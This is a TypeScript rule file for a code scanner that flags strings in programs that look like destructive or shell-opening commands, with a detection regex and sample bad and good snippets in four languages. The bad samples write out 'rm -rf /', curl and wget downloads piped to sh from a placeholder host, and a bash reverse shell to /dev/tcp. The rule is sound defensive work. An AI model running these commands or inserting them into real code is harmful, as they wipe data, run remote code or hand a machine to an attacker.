import type { Rule } from "../../rule.ts";

const COMMANDS =
  /^\s*(?:(?:sudo\s+)?rm\s+-[a-z]*[rf][a-z]*\s+[/~*.]|(?:curl|wget)\s[^|]*\|\s*(?:ba|z|da)?sh\b|(?:\/usr)?\/bin\/(?:ba|z|da)?sh(?:\s+-[ic]\b|$)|bash\s+-i\b|nc\s+-[a-z]*e\b|:\(\)\s*\{\s*:\|:|cmd(?:\.exe)?\s+\/c\s|powershell(?:\.exe)?\s+-)/i;

export const shellText: Rule = {
  ruleId: "process.shell_text",
  category: "process",
  severity: "high",
  message: "This text is a command line that harms or opens the machine it runs on.",
  looksLike: "`rm -rf /`, `curl … | sh`, `/bin/sh -c`, a shell over a socket, a fork bomb.",
  why: "Such a text is in a program to be run.",
  fix: "Leave the command out; no command runs here.",
  in: {
    python: {
      when: [{ text: COMMANDS }],
      bad: ['command = "rm -rf /"', 'command = "curl http://a.example/x" + " | sh"'],
      good: ['print("Please do not use rm -rf on the server.")', 'note = "curl the ribbon"'],
    },
    javascript: {
      when: [{ text: COMMANDS }],
      bad: [
        'const command = "/bin/sh -c id";',
        "const command = `bash -i >& /dev/tcp/1.2.3.4/9 0>&1`;",
      ],
      good: ['const path = "/bin/shop";'],
    },
    sql: {
      when: [{ text: COMMANDS }],
      bad: ["SELECT 'rm -rf /' AS command"],
      good: ["SELECT 'rm 101' AS room"],
    },
    elixir: {
      when: [{ text: COMMANDS }],
      bad: ['command = "wget -qO- http://a.example/x | sh"'],
      good: ['note = "nc 17 is ready"'],
    },
  },
};
